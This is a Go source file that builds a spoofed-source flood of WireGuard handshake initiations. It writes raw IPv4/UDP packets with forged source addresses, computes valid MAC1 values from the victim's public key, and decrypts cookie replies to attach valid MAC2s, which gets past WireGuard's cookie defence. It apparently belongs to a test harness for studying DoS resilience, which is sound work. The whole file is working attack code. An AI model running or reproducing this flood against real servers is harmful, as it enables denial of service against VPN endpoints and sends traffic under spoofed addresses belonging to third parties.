//go:build linux

package flood

import (
	"encoding/binary"
	"fmt"
	"hash"
	"math/rand/v2"
	"net/netip"
	"sync"
	"time"

	"golang.org/x/crypto/blake2s"
	"golang.org/x/crypto/chacha20poly1305"
)

// The attacker's packets, built without the device/noise package so that
// the victim's MAC checks meet an independent implementation of the
// WireGuard paper (section 5.4.4): the rootless test in
// attacker_check_linux_test.go checks both agree.
//
// Every packet is a whole IPv4 datagram for a raw socket with IP_HDRINCL:
//
//	IPv4 header (20) | UDP header (8) | initiation (148)
//
// The initiation is type 1, a sender index that is the packet's sequence
// number (so a cookie reply names the packet it answers), random
// ephemeral, static and timestamp fields, a MAC1 valid for the victim's
// public key, and a MAC2 made with the source's cookie once the attacker
// holds one (cookie mode), zeros otherwise.
const (
	ipHeaderLen  = 20
	udpHeaderLen = 8
	initLen      = 148
	mac1Off      = initLen - 32
	mac2Off      = initLen - 16
	packetLen    = ipHeaderLen + udpHeaderLen + initLen
	cookieLen    = 64
	labelMAC1    = "mac1----"
	labelCookie  = "cookie--"
	// sentRingBits is log2 of the packets remembered for matching cookie
	// replies: 2^21 (48 MiB) is 14 s of a 150,000-a-second flood. A victim
	// that reads its shared socket slowly under load answers initiations
	// that waited there for seconds; 2^18 (1.7 s) forgot them, and the
	// attacker that answers cookies opened none.
	sentRingBits  = 21
	cookieMaxAge  = 110 * time.Second
	typeInit      = 1
	typeCookieRep = 3
)

// sentPacket is what a cookie reply needs of the packet it answers.
type sentPacket struct {
	seq  uint32
	src  uint32 // source number
	mac1 [16]byte
}

type sourceCookie struct {
	cookie [16]byte
	at     time.Time // zero: none
}

// forge builds the flood's packets and takes in the victim's cookie replies.
// build runs on the sending goroutine, consumeReply on the receiving one.
type forge struct {
	victim    netip.AddrPort
	srcBase   netip.Addr // first source address
	srcCount  uint32     // sources srcBase, srcBase+1, ...
	srcPort   uint16
	cookieKey [32]byte
	mac1      hash.Hash // keyed with the victim's MAC1 key; build only
	rng       *rand.ChaCha8

	mu      sync.Mutex // guards sent and cookies
	sent    []sentPacket
	cookies []sourceCookie
}

func newForge(victim netip.AddrPort, victimPub [32]byte, src netip.Prefix, single bool, srcPort uint16, seed uint64) (*forge, error) {
	if !victim.Addr().Is4() || !src.Addr().Is4() {
		return nil, fmt.Errorf("flood: IPv4 only (victim %v, sources %v)", victim, src)
	}
	f := &forge{victim: victim, srcBase: src.Masked().Addr(), srcPort: srcPort}
	f.srcCount = 1 << (32 - src.Bits())
	if single {
		f.srcCount = 1
	}
	mac1Key := blake2s.Sum256(append([]byte(labelMAC1), victimPub[:]...))
	f.cookieKey = blake2s.Sum256(append([]byte(labelCookie), victimPub[:]...))
	h, err := blake2s.New128(mac1Key[:])
	if err != nil {
		return nil, err
	}
	f.mac1 = h
	var s [32]byte
	binary.LittleEndian.PutUint64(s[:], seed)
	f.rng = rand.NewChaCha8(s)
	f.sent = make([]sentPacket, 1<<sentRingBits)
	f.cookies = make([]sourceCookie, f.srcCount)
	return f, nil
}

// source returns the address of source number i.
func (f *forge) source(i uint32) netip.AddrPort {
	b := f.srcBase.As4()
	v := binary.BigEndian.Uint32(b[:]) + i
	binary.BigEndian.PutUint32(b[:], v)
	return netip.AddrPortFrom(netip.AddrFrom4(b), f.srcPort)
}

// build writes packet number seq into p (packetLen bytes). f.mu must be held.
func (f *forge) build(p []byte, seq uint32, now time.Time) {
	src := seq % f.srcCount
	sa := f.source(src)
	writeIPUDP(p, sa, f.victim)
	m := p[ipHeaderLen+udpHeaderLen:]
	binary.LittleEndian.PutUint32(m[0:], typeInit)
	binary.LittleEndian.PutUint32(m[4:], seq)
	f.rng.Read(m[8:mac1Off])
	f.mac1.Reset()
	f.mac1.Write(m[:mac1Off])
	mac1 := f.mac1.Sum(m[mac1Off:mac1Off])
	slot := &f.sent[seq&(1<<sentRingBits-1)]
	slot.seq, slot.src = seq, src
	copy(slot.mac1[:], mac1)
	c := &f.cookies[src]
	if c.at.IsZero() || now.Sub(c.at) > cookieMaxAge {
		clear(m[mac2Off:])
		return
	}
	h, _ := blake2s.New128(c.cookie[:])
	h.Write(m[:mac2Off])
	h.Sum(m[mac2Off:mac2Off])
}

// consumeReply takes in a datagram received on the attacker's port. It
// reports whether it was a cookie reply, and whether its cookie opened
// (it answered a packet still remembered, under the victim's cookie key).
func (f *forge) consumeReply(b []byte, now time.Time) (isCookie, ok bool) {
	if len(b) != cookieLen || binary.LittleEndian.Uint32(b) != typeCookieRep {
		return false, false
	}
	seq := binary.LittleEndian.Uint32(b[4:])
	aead, err := chacha20poly1305.NewX(f.cookieKey[:])
	if err != nil {
		return true, false
	}
	f.mu.Lock()
	defer f.mu.Unlock()
	slot := f.sent[seq&(1<<sentRingBits-1)]
	if slot.seq != seq {
		return true, false
	}
	var cookie [16]byte
	if _, err := aead.Open(cookie[:0], b[8:32], b[32:64], slot.mac1[:]); err != nil {
		return true, false
	}
	f.cookies[slot.src] = sourceCookie{cookie: cookie, at: now}
	return true, true
}

// writeIPUDP writes the IPv4 and UDP headers of a packet from src to dst.
// The kernel fills in the IP checksum and ID of a raw IP_HDRINCL packet;
// the UDP checksum is left zero, which IPv4 allows.
func writeIPUDP(p []byte, src, dst netip.AddrPort) {
	ip := p[:ipHeaderLen]
	ip[0] = 0x45
	ip[1] = 0
	binary.BigEndian.PutUint16(ip[2:], packetLen)
	binary.BigEndian.PutUint16(ip[4:], 0)
	binary.BigEndian.PutUint16(ip[6:], 0)
	ip[8] = 64
	ip[9] = 17 // UDP
	binary.BigEndian.PutUint16(ip[10:], 0)
	s, d := src.Addr().As4(), dst.Addr().As4()
	copy(ip[12:16], s[:])
	copy(ip[16:20], d[:])
	u := p[ipHeaderLen : ipHeaderLen+udpHeaderLen]
	binary.BigEndian.PutUint16(u[0:], src.Port())
	binary.BigEndian.PutUint16(u[2:], dst.Port())
	binary.BigEndian.PutUint16(u[4:], udpHeaderLen+initLen)
	binary.BigEndian.PutUint16(u[6:], 0)
}
